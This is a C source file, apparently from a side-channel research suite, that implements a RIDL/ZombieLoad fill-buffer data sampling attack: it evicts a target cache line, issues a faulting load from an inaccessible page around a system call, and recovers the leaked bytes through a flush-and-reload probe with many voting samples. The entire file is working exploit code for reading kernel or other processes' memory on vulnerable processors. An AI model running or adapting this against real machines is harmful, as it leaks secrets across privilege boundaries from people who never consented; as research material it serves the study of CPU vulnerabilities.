/*
 * RIDL and ZombieLoad (van Schaik et al., Schwarz et al., 2019), microarchitectural fill buffer data
 * sampling: a faulting load receives bytes of any line that came in last, chosen by their place in
 * the line only. Here the line is one that the kernel or another process has read before a system
 * call returned; evicting it first makes it come in anew. What is sampled is mostly something else,
 * so many samples vote.
 */
#include "attack.h"

#include <sys/mman.h>

#include "channel.h"
#include "evict.h"
#include "faulting.h"
#include "secret.h"

enum { PAGE_BYTES = 4096 };

static const uint8_t *probe, *denied;

static int sample(int index)
{
	uint64_t place = options.address + index;
	uint8_t answer;

	evict(place, first_level_pages);
	flush_probe(probe);
	if (options.call) {
		call_and_send_faulting(options.call, 0, NULL, 0, denied + place % PAGE_BYTES, probe);
	} else {
		send_guess(index);
		call_and_send_faulting(SYS_read, answers_of_service, &answer, 1, denied + place % PAGE_BYTES, probe);
	}
	return reload_probe(probe);
}

int main(int argc, char **argv)
{
	parse_options(argc, argv);
	if (!options.address)
		errx(2, "expected --address");
	open_secret();
	catch_faults();
	calibrate();
	prepare_eviction();
	probe = own_probe();
	denied = mmap(NULL, PAGE_BYTES, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (denied == MAP_FAILED)
		err(1, "mmap");
	recover(sample, (struct patience){ .samples = 100, .lead = 4 }, 1);
	return 0;
}
